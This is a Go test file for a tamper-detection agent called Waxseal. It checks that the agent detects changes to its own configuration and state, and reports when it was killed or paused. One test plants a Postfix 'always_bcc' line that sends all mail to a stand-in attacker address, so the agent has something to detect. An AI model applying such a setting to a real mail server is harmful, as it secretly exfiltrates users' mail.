package agent_test

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"waxseal"
	"waxseal/internal/detect"
)

func isOwn(name string) func(told) bool {
	return func(f told) bool {
		return f.News == "" && f.Rule == detect.OwnRule && strings.HasSuffix(string(f.Change.Path), name)
	}
}

// TestOwnFiles: a change of Waxseal's configuration or state by another is a finding
// that names the hand, while the agent runs and after it did not; what its own commands
// do beside it is none.
func TestOwnFiles(t *testing.T) {
	needRoot(t)
	h := postfixTree(t, nil)
	h.config("watch:\n  poll: 30s\n")
	h.must("seal")
	w := h.watch()
	for _, command := range []string{"findings list", "permit list", "keys list", "ledger verify"} {
		h.must(strings.Fields(command)...)
	}
	time.Sleep(time.Second) // what they did would be told by now
	if err := os.WriteFile(h.extra, []byte("watch:\n  audit: false\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	f := w.find("the configuration", func(f told) bool { return f.News == "" })
	if !isOwn("waxseal.yaml")(f) || f.Severity < waxseal.High || !strings.HasPrefix(f.Title, "somebody changed Waxseal's own configuration") {
		t.Errorf("told first is %q, %s", f.Title, f.Severity)
	}
	if f.Actor == nil || f.Actor.Process.PID != os.Getpid() || f.Actor.Process.Grade != waxseal.Proven {
		t.Errorf("the hand is %+v", f.Actor)
	}
	if err := os.WriteFile(filepath.Join(h.state, "waxseal.db-journal"), nil, 0o600); err != nil {
		t.Fatal(err)
	}
	w.find("the file in the state directory", isOwn("waxseal.db-journal"))
	if err := os.Remove(filepath.Join(h.state, "waxseal.db-journal")); err != nil {
		t.Fatal(err)
	}
	w.end(syscall.SIGKILL)
	if err := os.WriteFile(h.extra, []byte("watch:\n  poll: 20s\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	w = h.watch()
	if !strings.Contains(w.errs.String(), "it was killed, or crashed") {
		t.Errorf("how the last agent ended is not told: %s", w.errs)
	}
	f = w.find("the configuration, changed meanwhile", isOwn("waxseal.yaml"))
	w.stop()
	if w = h.watch(); strings.Contains(w.errs.String(), "nobody watched") {
		t.Errorf("an agent that was stopped in order: %s", w.errs)
	}
	if f.Unobserved == nil || f.Actor.Process.Grade != waxseal.Unknown {
		t.Errorf("unobserved %v, actor %+v", f.Unobserved, f.Actor)
	}
}

// TestStoppedAgent: an agent that was stopped says so when it goes on, with who sent
// the signal, and finds what changed meanwhile.
func TestStoppedAgent(t *testing.T) {
	needRoot(t)
	h := postfixTree(t, nil)
	h.must("seal")
	w := h.watch()
	if err := w.cmd.Process.Signal(syscall.SIGSTOP); err != nil {
		t.Fatal(err)
	}
	h.append("/etc/postfix/main.cf", "always_bcc = box@evil.example.net\n")
	time.Sleep(2500 * time.Millisecond)
	if err := w.cmd.Process.Signal(syscall.SIGCONT); err != nil {
		t.Fatal(err)
	}
	w.find("the copy", isNew("mail-copy"))
	wait(t, "the gap", func() bool { return strings.Contains(w.errs.String(), "was stopped (SIGSTOP) for 2.") })
}
